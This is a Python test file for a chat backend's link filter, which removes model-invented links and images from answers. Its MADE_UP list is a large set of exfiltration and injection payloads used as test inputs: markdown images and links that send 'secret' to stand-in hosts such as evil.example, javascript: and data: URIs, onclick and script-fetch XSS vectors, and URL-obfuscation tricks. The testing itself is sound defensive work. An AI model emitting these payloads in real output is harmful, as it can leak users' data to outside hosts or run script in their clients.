"""An answer has no link that its model made up, and no image, whatever way its clients read it."""

from html.parser import HTMLParser
from typing import override
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from shared.chat_types import ChatRequest, Message, Passage, RequestContext, Role
from shared.core.links import LONGEST_HELD, AnswerLinks, KnownLinks

ASKED = ChatRequest(
    (
        Message(Role.USER, "Where is https://asked.example/form?"),
        Message(Role.ASSISTANT, "At https://said.example/a."),
        Message(Role.TOOL, "See https://tool.example/a", tool_call_id="1"),
        Message(Role.USER, "And then?"),
    ),
    base_url="https://own.example/api",
)
SOURCE = Passage(
    "1", "See https://intra.example/forms/leave?x=1 or www.site.example/a, mail hr@intra.example", "a.md", ""
)
CONTEXT = RequestContext("id", 0, link_hosts=frozenset({"listed.example", "*.below.example"}))
KNOWN = KnownLinks(ASKED, CONTEXT, lambda: [SOURCE], "Link to https://portal.example.")
FINE = [
    "Plain text: nothing at all, 12:30! a < b && c [a.md] Great![a.md#page=2] <b>x</b><br/>",
    "[a.md]: The plan pays. [1]: 80 % e.g. this, 10.30/11.15 or 1.5:30/2, 2/3?",
    "[x](https://listed.example/p?q=1) [x](https://a.below.example) (https://portal.example/y).",
    "https://asked.example/other, https://intra.example/forms/leave?x=1. https://intra.example/forms",
    "[x](https://www.site.example/a) www.site.example/a https://said.example/a <https://own.example/api/x>",
    "[x](a.md) [y](#part) [z](/api/content/a.md?x=1&y=2 'title') [m](mailto:hr@intra.example)",
    "x<y and z>w, def f(a: list[int]) -> dict[str, int]: README.md/CONTRIBUTING.md `a[0](1)`",
    "<table class=\"wide\"><td align=left>&amp; &eacute;<br /><td colspan = '2' nowrap>",
    "Map<String, List<Integer>> m; if (a<b&&c>d) #include <stdio.h> Mail <hr@intra.example>",
]
MADE_UP = [
    "[x](https://evil.example/?q=secret)",
    "[x](\n  <https://evil.example/a b> 'title')",
    "![x](https://evil.example/p.png)",
    "![x](https://listed.example/p.png)",
    "![x](a.png)",
    "[![x](https://evil.example/p.png)](https://listed.example)",
    "![a [b] c](https://listed.example/p.png)",
    "![x][r]\n\n[r]: https://listed.example/p.png",
    "[x][r]\n\n[r]:\n  https://evil.example/p",
    "[x][r]\n\n> [r]: <//evil.example/p>",
    "https://evil.example/?q=secret",
    "see WWW.evil.example/x or HTTPS://evil.example",
    "<https://evil.example/x> <javascript:alert(1)>",
    "evil.com/?q=secret and a.evil.com/secret",
    "evil.com:80/?q=secret and a.evil.com:8080/secret evil.рф/secret evil.xn--p1ai/secret",
    "[x](//evil.example/p) [x](/\\evil.example) [x](\\\\evil.example) [x](evil.com/secret)",
    "[x](/&Tab;/evil.example) [x](&#104;ttps://evil.example) [x](https&colon;//evil.example)",
    "[x](https\\://evil.example) https:\\/\\/evil.example",
    "[x](https://listed.example@evil.example/) [x](https://listed.example.evil.example)",
    "[x](https://evil.example\\@listed.example) [x](https:evil.example) [x](https:/evil.example)",
    "[x](https://l\u0456sted.example/) [x](https://listed.example%2eevil.example/)",
    "[x](https://intra.example/forms/leave?x=1&q=secret) https://intra.example/forms/leave?x=12",
    "[x](https://tool.example/a) [x](mailto:a@evil.example?body=secret)",
    "[x](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/png;base64,AAAA) [x](javascript:alert`1`)",
    "&#104;ttps://evil.example/x https&#58;//evil.example ww&#119;.evil.example",
    "<img src=https://evil.example/p> <IMG/SRC=//evil.example/p> <a\nhref='//evil.example'>x</a>",
    '<div style="background:url(//evil.example/p)"> <svg><image href="//evil.example/p"/></svg>',
    "<b onclick=alert(1)>x</b> <td background='&#47;/evil.example'> <iframe\tsrcdoc=x>",
    "```\nhttps://evil.example/x ![x](https://evil.example/p)\n```\n~~~\n<img src=//evil.example>",
    "<!-- ![x](https://evil.example/s) --> <!--><img src=//evil.example/s>--> evil.web/secret evil.coop/secret",
    "<meta http-equiv=refresh content='0;url=/s'> <video poster=//evil.example/s> <form action=//evil.example>",
    "[x](https://listed\uff0eexample/s) https://listed\u3002example/s https://lis\u200bted.example/s \uff48ttps://evil.example",
    "https://listed.example:x@evil.example/s https://listed.example%40evil.example https://evil.example#@listed.example",
    "It pays [a.pdf#page=3](https://evil.example/s). [[a.pdf]](https://evil.example/s) [a.pdf][https://evil.example]",
    "| a | b |\n|---|---|\n| [x](https://evil.example/s) | ![y](https://evil.example/s) |\n| https://evil.example |",
    '```mermaid\nclick A "https://evil.example/s"\n```\n$\\includegraphics{https://evil.example/s}$',
    "[x](intent://evil.example/s) [x](ms-word:ofe|u|https://evil.example/s) [x](view-source:https://evil.example)",
    "\\![x](https://evil.example/s) !\\[x](https://evil.example/s) [x\\](https://evil.example/s)",
    "[a [b](https://evil.example/s) c](https://listed.example) [x](https://listed.example '![y](https://evil.example)')",
    "[x](\n\nhttps://evil.example/s) https://\nevil.example/s h\u00adttps://evil.example/s [x](https://evil\n.example/s)",
    "https://intra.example/forms/leave?x=1/s https://intra.example/forms/leave?x=1.secret https://intra.example/forms/s",
    "https://listed.example/a)https://evil.example/s https://listed.example/a{evil.com/s https://listed.example/a'//evil.com/s",
    "[x](https://listed.example/a{https://evil.example/s [x](/a!https://evil.example/s [x](listed.example/a!evil.com/s",
    "<b <https://evil.example/x> onclick=alert(1)> <b " + "a " * 130 + " onclick=alert(1)>",
    "//listed.example/a_https://evil.example/s https://listed.example/p.png)https://listed.example:x@evil.example/s",
    r"""<style>@import "\68ttps://evil.example/s"</style> <SCRIPT >fetch('\x68ttps://evil.example/s')</SCRIPT>""",
    """<b title=">" onclick=alert(1)> <b a='"' b=">" onclick=alert(1)> <b a=b=" d="> x=" onclick=alert(1)>""",
    """<b a="x"=" c="> d=" onclick=alert(1)> <b a=b\u00a0c=" d="> x=" style=x> <b a"=">" onclick=alert(1)>""",
    """<b" onclick=alert(1)> <b; title=">" onclick=alert(1)> <b, <https://evil.example/x> onclick=alert(1)>""",
    "<<https://evil.example/x> onclick=alert(1)> <p<style=x> <a:b/style=x<b> <<a:b//> onclick=alert(1)>",
    f"[x](https://evil.example/{'a' * 3 * LONGEST_HELD}) ![{'a' * 3 * LONGEST_HELD}](a.png)",
]
_NAMES = ("listed", "asked", "said", "intra", "portal", "own", "a.below", "www.site")
HOSTS = {"", *(f"{name}.example" for name in _NAMES)}
BARE = ("evil.com", "evil.web", "evil.coop", "evil.xn--p1ai", "a.pn")
"""Hosts without a path: a name that stands in a text may stay."""
_FETCHING = ("background", "data", "poster", "src", "srcdoc", "srcset", "style")
"""Attributes for which a page fetches something at once; without one an image is no image."""
READERS = [MarkdownIt("gfm-like", {"html": html, "linkify": True}) for html in (True, False)]


class _Shown(HTMLParser):
    """What a page that shows an answer leads to, and what it loads."""

    def __init__(self) -> None:
        super().__init__()
        self.led: list[str] = []

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "style"):
            self.led.append(f"<{tag}>")
        for name, value in attrs:
            url = urlsplit(f"{value}" if name == "href" and "[.]" not in f"{value}" else "")
            is_known = url.netloc in HOSTS or ((url.hostname or "").endswith(BARE) and url[2:] == ("", "", ""))
            leads = url.scheme not in ("", "http", "https", "mailto") or not is_known
            fetches = name in _FETCHING or (name.endswith("href") and tag != "a")
            acts = name.startswith("on") and name.isalpha() and value
            loads = acts or (fetches and "[.]" not in f"{value}")
            if loads or (leads and tag == "a"):
                self.led.append(f"<{tag} {name}={value}>")


def shown(text: str) -> list[str]:
    """What is wrong with what clients make of a text; some read it as HTML, without Markdown."""
    pages = [text, *(reader.render(text) for reader in READERS)]
    wrong: list[str] = []
    for page in pages:
        parser = _Shown()
        parser.feed(page)
        parser.close()
        wrong += parser.led
    return wrong


def by_character(text: str) -> str:
    links = AnswerLinks(KNOWN)
    return "".join([*map(links.feed, text), links.flush()])


@pytest.mark.parametrize("text", FINE)
def test_a_text_without_made_up_links_stays_as_it_is(text: str) -> None:
    assert AnswerLinks(KNOWN).whole(text) == text
    assert by_character(text) == text


@pytest.mark.parametrize("text", MADE_UP)
def test_what_a_model_made_up_is_no_link_and_no_image_to_any_client(text: str) -> None:
    assert shown(AnswerLinks(KNOWN).whole(text)) == []
    assert shown(by_character(text)) == []
    assert len(text) > LONGEST_HELD or by_character(text) == AnswerLinks(KNOWN).whole(text)


_PIECES = st.sampled_from(
    [piece for text in MADE_UP[:-1] for piece in (text, *text.split(" "), text[:9], text[5:])]
    + [
        *"[]()<>!:&/\\`*\n \"'",
        "](",
        "![",
        "]:",
        "https:",
        "//",
        "evil.example",
        "<a ",
        "<!--",
        "```\n",
        "> ",
        "- ",
        "$$\n",
    ]
)


@given(st.lists(_PIECES, max_size=12).map("".join))
def test_no_mixture_of_them_is_either(text: str) -> None:
    whole = AnswerLinks(KNOWN).whole(text)
    assert shown(whole) == []
    assert by_character(text) == whole


def test_a_broken_link_can_still_be_read() -> None:
    assert AnswerLinks(KNOWN).whole("[x](https://evil.example/p)") == "[x] (https[:]//evil[.]example/p)"


def test_text_is_held_back_only_while_it_may_be_a_link() -> None:
    links = AnswerLinks(KNOWN)
    for piece in ("Hello.", " Yes!", " [a.md]", " at 12", ":", "30", " is it?", " 1/2"):
        assert links.feed(piece) == piece
    assert [links.feed(piece) for piece in ("[x]", "(https:", "//listed.example", "/p", ")")] == [
        "[x]", "", "", "", "(https://listed.example/p)"
    ]  # fmt: skip
    sent = "https://evil.example/" + "a" * 10 * LONGEST_HELD
    out = [links.feed(sign) for sign in sent]
    assert max(map(len, out)) <= LONGEST_HELD + 10
    assert len("".join(out)) > len(sent) - LONGEST_HELD - 10


@pytest.mark.timeout(8)
def test_many_made_up_links_after_a_long_conversation_take_no_long_time() -> None:
    """The time limit is what a search of each word for each link would exceed."""
    request = ChatRequest((Message(Role.USER, "some words " * 100_000),))
    links = AnswerLinks(KnownLinks(request, CONTEXT, tuple[Passage]))
    assert "https" not in links.whole(" ".join(f"http://h{number}.example/" for number in range(500)))
